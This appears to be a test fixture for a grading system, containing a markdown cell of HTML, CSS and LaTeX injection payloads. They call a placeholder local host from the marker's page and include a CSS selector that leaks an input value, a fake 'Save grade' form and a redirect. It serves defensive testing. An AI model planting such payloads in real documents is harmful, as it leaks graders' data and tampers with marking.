"""Pictures, fonts, links and forms that would call home from the marker's page.

Attack: texts
Deserves: 80
Keeps: 80
"""

# %% markdown: latent-writeup
![seen](http://127.0.0.1:@PORT@/seen.png) <link rel=stylesheet href="http://127.0.0.1:@PORT@/x.css">
<style>@import url(http://127.0.0.1:@PORT@/y.css); input[value^="1"] {background: url(http://127.0.0.1:@PORT@/1)}</style>
<form action="http://127.0.0.1:@PORT@/form"><button>Save grade</button></form><meta http-equiv=refresh content="0;url=http://127.0.0.1:@PORT@/">
<object data="http://127.0.0.1:@PORT@/o"></object><video src="http://127.0.0.1:@PORT@/v"></video> $\href{http://127.0.0.1:@PORT@/}{x}$
